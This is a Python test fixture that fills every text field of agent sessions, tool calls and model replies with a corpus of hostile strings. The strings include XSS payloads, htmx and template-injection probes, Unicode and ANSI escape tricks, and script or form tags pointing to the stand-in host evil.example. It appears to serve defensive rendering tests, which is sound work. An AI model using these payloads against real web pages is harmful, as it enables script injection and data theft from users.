"""Text that would do something on a page which took it for more than text, in every place that holds text."""

from collections.abc import Callable
from typing import Any, Final

from helix_temporal.agents import Agent, ModelRequest, ModelResponse, ToolContext, ToolOutcome, tool
from helix_temporal.models.messages import ToolCall, Usage
from helix_temporal.models.states import CreateSession
from helix_temporal.testing.environment import HelixEnv

MARK: Final = "helixrun"
"""What a script of the corpus would set on ``window``."""
AWAY: Final = "http://evil.example"

TEXTS: Final = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"</title><script>window.{MARK}=1</script>",
    f"</textarea><script src={AWAY}/x.js></script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f"<svg/onload=window.{MARK}=1><animate onbegin=window.{MARK}=1 attributeName=x dur=1s>",
    f'<math><mi//xlink:href="data:x,<script>window.{MARK}=1</script>">',
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data={AWAY}/x.swf></object><embed src={AWAY}/x><link rel=stylesheet href={AWAY}/x.css>",
    f"<base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<form action={AWAY}/ method=post><input name=csrf autofocus onfocus=window.{MARK}=1>",
    f'" autofocus onfocus=window.{MARK}=1 x="',
    f"' onmouseover='window.{MARK}=1' x='",
    f"javascript:window.{MARK}=1",
    f"[click](javascript:window.{MARK}=1) ![i]({AWAY}/i.png) <{AWAY}/auto> [x]: {AWAY}",
    f"{AWAY}/plain and https://evil.example/https",
    f"<div hx-get='{AWAY}/' hx-trigger='load' hx-swap='outerHTML'>x</div>",
    f"<div data-hx-on:load='window.{MARK}=1' hx-on::load='window.{MARK}=1' hx-get='/' hx-trigger=load></div>",
    f"<hx-partial hx-target='body'><img src=x onerror=window.{MARK}=1></hx-partial>",
    f"<template hx type=partial hx-target=body><b>{MARK}</b></template>",
    f"<div hx-sse:connect='{AWAY}/' hx-swap-oob='innerHTML:body'>oob</div>",
    "{{7*7}} {% for x in [1] %}{{ x.__class__ }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200bzero\ufeffwidth \u0000null? \u0085next \u2028line".replace(
        "\u0000", ""
    ),
    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
    "&lt;script&gt;window.helixrun=1&lt;/script&gt; &#60;img src=x onerror=helixrun=1&#62;",
    "+ADw-script+AD4-window.helixrun=1+ADw-/script+AD4-",
    "data: retry\n\nevent: done\ndata: x\r\rid: 99999\n\n",
    "]]><!--><script>window.helixrun=1</script><!--",
    "```\n<script>window.helixrun=1</script>\n``` **<b>x</b>** `<i>`",
    "🧨" * 200 + "\u0301" * 500,
)
HUGE: Final = "A<b>" * 200_000
SAFE_IN_LINES: Final = tuple("".join(c for c in text if c.isprintable() or c == " ")[:200] for text in TEXTS)
"""As ids and tags take them: without control characters, and short."""


def make_agent() -> Agent:
    """Answers with a text of the corpus after it has called tools with all of them."""

    @tool(name="look")
    async def look(what: str, context: ToolContext) -> Any:
        """Give back what it was given, in its result and in the state; fail for each third.

        Args:
            what: A text.
            context: Of the session.
        """
        number = TEXTS.index(what)
        if number % 3 == 0:
            raise RuntimeError(what)
        return ToolOutcome(what, state={what[:100]: what, "list": list(TEXTS)})

    return Agent(name="hostile", model=_Model(), instructions="\n".join(TEXTS), tools=[look])


class _Model:
    async def generate(self, request: ModelRequest) -> ModelResponse:
        """Asks for tools, also for such as don't exist under hostile names; then says all of it."""
        usage = Usage(input_tokens=1000, output_tokens=10)
        if request.messages[-1].role == "user":
            calls = [
                ToolCall(id=f"c{number}", name="look", arguments={"what": text})
                for number, text in enumerate(TEXTS)
            ]
            calls += [
                ToolCall(id=f"n{number}", name=text[:60], arguments={text: [text]})
                for number, text in enumerate(SAFE_IN_LINES[:8])
            ]
            return ModelResponse(tool_calls=tuple(calls), usage=usage)
        return ModelResponse(content="\n\n".join(TEXTS), usage=usage)


async def make_sessions(env: HelixEnv) -> list[str]:
    """Sessions whose every field that may hold text does; gives their ids."""
    assert env.backends.sessions is not None
    made = []
    for number, text in enumerate(SAFE_IN_LINES):
        session_id = f"{number} {text}"[:100].strip()
        options = CreateSession(
            user_id=text[:100],
            title=text[:100],
            tags=(text[:60], "x"),
            metadata={text[:60]: text, "nested": {text[:60]: [text]}},
            agent_type="hostile",
        )
        await env.backends.sessions.create_session(session_id, options)
        made.append(session_id)
    return made


def sender_of(env: HelixEnv) -> Callable[[str, str], Any]:
    """Says something to a session, and waits for the answer."""

    async def send(session_id: str, text: str) -> None:
        await env.sessions.ask(session_id, text, agent="hostile", timeout=60)

    return send
